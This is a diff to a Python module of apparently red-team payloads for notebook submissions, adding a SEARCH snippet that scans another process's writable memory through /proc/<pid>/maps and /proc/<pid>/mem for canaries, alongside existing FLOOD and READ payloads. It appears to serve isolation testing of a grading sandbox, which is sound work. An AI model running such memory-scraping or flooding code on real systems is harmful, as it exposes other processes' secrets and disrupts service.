@@ -19,7 +19,7 @@ import nbformat
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
 
-__all__ = ["FLOOD", "MARK", "READ", "SHOW", "SubmissionDraft"]
+__all__ = ["FLOOD", "MARK", "READ", "SEARCH", "SHOW", "SubmissionDraft"]
 
 MARK = "red-team-was-here"
 
@@ -49,6 +49,26 @@ def read(*patterns):
                 pass
 """
 )
+
+# Show the canaries in the writable memory of a process.
+SEARCH = """
+import os
+
+def search(pid):
+    try:
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
+            for line in maps:
+                area, rights = line.split()[:2]
+                start, end = (int(x, 16) for x in area.split("-"))
+                if rights.startswith("rw"):
+                    try:
+                        memory.seek(start)
+                        show(memory.read(min(end - start, 1 << 28)))
+                    except (OSError, OverflowError, ValueError):
+                        pass
+    except OSError:
+        pass
+"""
 
 # Print forever to the given file descriptor.
 FLOOD = """
